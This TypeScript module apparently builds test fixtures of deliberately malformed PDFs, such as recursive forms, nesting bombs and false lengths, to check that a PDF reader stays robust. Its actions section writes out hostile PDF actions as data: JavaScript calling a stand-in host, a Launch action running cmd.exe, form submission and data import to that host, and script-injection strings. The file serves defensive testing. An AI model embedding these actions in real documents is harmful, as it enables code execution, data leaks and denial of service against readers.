import type { HostileFile } from './hostile-files';
import { bombs } from './bombs';
import { hostileFonts } from './hostile-fonts';
import { helvetica, joined, makePdf, onePage, sentence, shown, type PdfObject } from './make-pdf';

/** PDFs that no program would make. */
export const hostilePdfs = (): HostileFile[] => [
  ...manyPages(),
  ...recursive(),
  ...bombs(),
  ...actions(),
  ...liars(),
  ...hostileFonts(),
];

function pagesOf(count: number, content: string): Uint8Array {
  const kids = Array.from({ length: count }, (_, i) => `${i + 4} 0 R`).join(' ');
  const resources = `<< /Font << /F ${helvetica} >> >>`;
  const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 3 0 R /Resources ${resources} >>`;
  return makePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    { dictionary: '', stream: content },
    ...new Array<string>(count).fill(page),
  ]);
}

const manyPages = (): HostileFile[] => [
  { name: 'pages-10000.pdf', bytes: pagesOf(10_000, shown), why: '10,000 pages of text', ends: 'read' },
  { name: 'dense.pdf', bytes: onePage(dense()), why: 'a page of 11,000 words in tiny print', ends: 'read' },
  { name: 'pages-blank.pdf', bytes: pagesOf(40, 'q Q'), why: '40 pages of nothing', ends: 'refused' },
];

/** A sheet of notes in narrow columns, each note as long as it happens to be. */
function dense(): string {
  const rows = Array.from({ length: 220 }, (_, row) =>
    Array.from({ length: 20 }, (_, column) => {
      const note = sentence.split(' ').slice(0, 2 + ((row * 7 + column * 5) % 5));
      return `1 0 0 1 ${column * 20} ${199 - row * 0.9} Tm (${note.join(' ')}) Tj`;
    }).join('\n'),
  );
  return `BT /F 0.7 Tf ${rows.join('\n')} ET`;
}

function recursive(): HostileFile[] {
  const form = (draw: string, other: string): PdfObject => ({
    dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 400 200] /Resources << /XObject << /X ${other} >> /Font << /F ${helvetica} >> >>`,
    stream: draw,
  });
  const node = (kids: string, count = 1) => `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`;
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
  const doubling = Array.from({ length: 30 }, (_, i) => form('/X Do /X Do', `${i + 6} 0 R`));
  return [
    {
      name: 'form-in-itself.pdf',
      bytes: onePage(`${shown} /X Do`, {
        resources: '/XObject << /X 5 0 R >>',
        more: [form(`${shown} /X Do`, '5 0 R')],
      }),
      why: 'a form that draws itself',
    },
    {
      name: 'forms-in-a-ring.pdf',
      bytes: onePage(`${shown} /X Do`, {
        resources: '/XObject << /X 5 0 R >>',
        more: [form('/X Do', '6 0 R'), form('/X Do', '5 0 R')],
      }),
      why: 'two forms that draw each other',
    },
    {
      name: 'forms-doubling.pdf',
      bytes: onePage(`${shown} /X Do`, {
        resources: '/XObject << /X 5 0 R >>',
        more: [...doubling, form(shown, '5 0 R')],
      }),
      why: 'thirty forms, each of which draws the next one twice',
    },
    {
      name: 'kids-ring.pdf',
      bytes: makePdf([catalog, node('2 0 R')]),
      why: 'pages that hold themselves',
      ends: 'refused',
    },
    {
      name: 'kids-two-ring.pdf',
      bytes: makePdf([catalog, node('3 0 R'), node('2 0 R')]),
      why: 'two page nodes that hold each other',
      ends: 'refused',
    },
    {
      name: 'deep-pages.pdf',
      bytes: makePdf([
        catalog,
        ...Array.from({ length: 5000 }, (_, i) => node(`${i + 3} 0 R`)),
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 5003 0 R /Resources << /Font << /F ${helvetica} >> >> >>`,
        { dictionary: '', stream: shown },
      ]),
      why: 'a page below 5,000 nodes',
    },
    {
      name: 'parent-ring.pdf',
      bytes: onePage(shown, { page: '/Parent 3 0 R' }),
      why: 'a page that is its parent',
    },
    {
      name: 'outline-ring.pdf',
      bytes: onePage(shown, {
        catalog: '/Outlines 5 0 R',
        more: [
          '<< /First 6 0 R /Last 6 0 R /Count 1 >>',
          '<< /Title (A) /Next 6 0 R /First 5 0 R /Parent 5 0 R >>',
        ],
      }),
      why: 'an outline that goes round',
      ends: 'read',
    },
    {
      name: 'length-of-itself.pdf',
      bytes: makePdf([
        catalog,
        node('3 0 R'),
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F ${helvetica} >> >> >>`,
        `<< /Length 4 0 R >>\nstream\n${shown}\nendstream`,
      ]),
      why: 'a stream whose length is itself',
    },
    {
      name: 'catalog-in-pages.pdf',
      bytes: makePdf(['<< /Type /Catalog /Pages 1 0 R >>']),
      why: 'a catalog that is its pages',
      ends: 'refused',
    },
    {
      name: 'xref-ring.pdf',
      bytes: joined([
        onePage(shown),
        'xref\n0 0\ntrailer\n<< /Root 1 0 R /Size 5 /Prev 9 >>\nstartxref\n9\n%%EOF',
      ]),
      why: 'cross references that lead back',
    },
    {
      name: 'nested-arrays.pdf',
      bytes: onePage(`${'['.repeat(200_000)} ${shown}`),
      why: '200,000 open brackets',
    },
    {
      name: 'nested-dictionaries.pdf',
      bytes: onePage(`/A ${'<< /A '.repeat(100_000)} BDC ${shown}`),
      why: '100,000 open dictionaries',
    },
    {
      name: 'saved-states.pdf',
      bytes: onePage(`${'q '.repeat(300_000)} ${shown}`),
      why: '300,000 states saved',
    },
  ];
}

/** None of this may ever run: what it would do is seen by the test, for it opens a window or asks a host. */
function actions(): HostileFile[] {
  const script = "app.alert('run'); this.print(); app.launchURL('http://hostile.invalid/', true);";
  const cases: [string, string, string][] = [
    [
      'open-javascript',
      `/OpenAction << /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) >>`,
      'a script at opening',
    ],
    [
      'launch',
      '/OpenAction << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
      'starts a program',
    ],
    ['uri', '/OpenAction << /S /URI /URI (http://hostile.invalid/) >>', 'opens a page'],
    ['submit', '/OpenAction << /S /SubmitForm /F (http://hostile.invalid/) /Flags 4 >>', 'sends a form'],
    [
      'remote',
      '/OpenAction << /S /GoToR /F (\\\\\\\\hostile.invalid\\\\share\\\\a.pdf) /D [0 /Fit] >>',
      'opens another file',
    ],
    ['import', '/OpenAction << /S /ImportData /F (http://hostile.invalid/a.fdf) >>', 'fetches data'],
    [
      'names-javascript',
      `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>`,
      'a script by name',
    ],
    [
      'additional',
      '/AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> /WP << /S /JavaScript /JS (this.print\\(\\)) >> >>',
      'scripts at closing and printing',
    ],
    [
      'xfa',
      '/AcroForm << /XFA [(template) (<xdp><script>alert\\(1\\)</script></xdp>)] /Fields [] >>',
      'an XFA form with a script',
    ],
    [
      'chain',
      '/OpenAction << /S /JavaScript /JS (1) /Next << /S /Launch /F (a) /Next << /S /URI /URI (http://hostile.invalid/) >> >> >>',
      'a chain of actions',
    ],
  ];
  const byCatalog = cases.map(([name, catalog, why]): HostileFile => ({
    name: `action-${name}.pdf`,
    bytes: onePage(shown, { catalog }),
    why,
    ends: 'read',
  }));
  const external: PdfObject = {
    dictionary: '/F << /Type /Filespec /FS /URL /F (http://hostile.invalid/content) >> /FFilter /FlateDecode',
    stream: shown,
  };
  const html = `BT /F 12 Tf 20 150 Td (<img src=x onerror="alert\\(1\\)"><script>alert\\(1\\)</script> ${sentence}) Tj ET`;
  return [
    ...byCatalog,
    { name: 'action-external-stream.pdf', bytes: onePage(external), why: 'content that lies on a server' },
    {
      name: 'action-html-text.pdf',
      bytes: onePage(html),
      why: 'HTML with a script as its text',
      ends: 'read',
    },
  ];
}

/** Numbers that are not true. */
function liars(): HostileFile[] {
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
  const page = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F ${helvetica} >> >> >>`;
  const content: PdfObject = { dictionary: '', stream: shown };
  const counted = (count: string) =>
    makePdf([catalog, `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>`, page, content]);
  const boxed = (box: string) => onePage(shown, { page: `/CropBox [${box}] /MediaBox [${box}]` });
  const text = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes);
  const bytes = (string: string) => Uint8Array.from(string, (c) => c.charCodeAt(0));
  const plain = text(onePage(shown));
  return [
    ...['2000000000', '-1', '0', '1e99', '(three)', 'null'].map((count, i): HostileFile => ({
      name: `count-${i}.pdf`,
      bytes: counted(count),
      why: `says it has ${count} pages`,
    })),
    ...['0 0 0 0', '400 200 0 0', '-1e30 -1e30 1e30 1e30', '0 0 NaN 200', '', '1 2'].map(
      (box, i): HostileFile => ({
        name: `box-${i}.pdf`,
        bytes: boxed(box),
        why: `a page from ${box || 'nowhere'}`,
      }),
    ),
    {
      name: 'no-xref.pdf',
      bytes: bytes(plain.replace(/xref[\s\S]*/, '')),
      why: 'no cross references',
    },
    {
      name: 'wrong-startxref.pdf',
      bytes: bytes(plain.replace(/startxref\n\d+/, 'startxref\n99999999')),
      why: 'cross references elsewhere',
      ends: 'read',
    },
    {
      name: 'wrong-offsets.pdf',
      bytes: bytes(plain.replace(/\d{10} 00000 n/g, '0000000007 00000 n')),
      why: 'objects elsewhere',
      ends: 'read',
    },
    {
      name: 'wrong-length.pdf',
      bytes: bytes(plain.replace(/\/Length \d+/, '/Length 9999999')),
      why: 'a stream longer than the file',
    },
    {
      name: 'negative-length.pdf',
      bytes: bytes(plain.replace(/\/Length \d+/, '/Length -5')),
      why: 'a stream of negative length',
    },
    { name: 'no-endobj.pdf', bytes: bytes(plain.replaceAll('endobj', '')), why: 'objects without an end' },
    { name: 'carriage-returns.pdf', bytes: bytes(plain.replaceAll('\n', '\r\n')), why: 'sent as text' },
    { name: 'seven-bit.pdf', bytes: bytes(plain.replaceAll('\n', '')), why: 'no line ends' },
    {
      name: 'unknown-filter.pdf',
      bytes: onePage({ dictionary: '/Filter /Magic', stream: shown }),
      why: 'a filter that does not exist',
    },
    { name: 'no-catalog.pdf', bytes: bytes(plain.replace('/Root 1 0 R', '')), why: 'no catalog named' },
    {
      name: 'root-is-page.pdf',
      bytes: bytes(plain.replace('/Root 1 0 R', '/Root 3 0 R')),
      why: 'a page as catalog',
    },
    {
      name: 'encrypt-unknown.pdf',
      bytes: makePdf(
        [catalog, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', page, content, '<< /Filter /Secret /V 9 >>'],
        '/Encrypt 5 0 R',
      ),
      why: 'locked in an unknown way',
      ends: 'refused',
    },
  ];
}
